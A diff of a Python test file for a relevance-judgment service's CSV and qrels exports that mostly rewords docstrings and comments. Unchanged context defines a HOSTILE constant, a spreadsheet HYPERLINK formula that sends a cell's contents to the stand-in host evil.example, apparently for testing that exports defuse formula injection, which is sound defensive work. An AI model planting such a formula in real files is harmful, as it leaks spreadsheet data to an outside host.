@@ -1,4 +1,4 @@
-"""Judgments out and in: every form is read back by what is not this service."""
+"""Exports and imports of judgments: every form is read back by code other than the service's."""
 
 import csv
 import io
@@ -50,7 +50,7 @@ def test_qrels_have_the_mean_grade_of_each_pair(client, small):
     assert first.pair == second.pair
     assert means[first.pair] == (first.grade + second.grade) / 2
     assert len(means) == len(lines)
-    assert {one.pair for one in small.judgments} <= set(means)  # other tests judge here, too
+    assert {one.pair for one in small.judgments} <= set(means)  # other tests judge here as well
 
 
 @pytest.mark.parametrize(
@@ -141,7 +141,7 @@ HOSTILE = '=HYPERLINK("http://evil.example/?"&A1)'
 
 @pytest.fixture(scope="module")
 def answered(server, small):
-    """Two pairs: one judged under a lease with all there is to say, and revised; one that cannot be judged."""
+    """Two pairs: one judged under a lease with all fields, and revised; one that cannot be judged."""
     with httpx.Client(base_url=server.url, timeout=180) as client:
         first, second = client.post(
             JUDGMENTS.replace("judgments", "next"), json={"assessor": "eve", "count": 2}
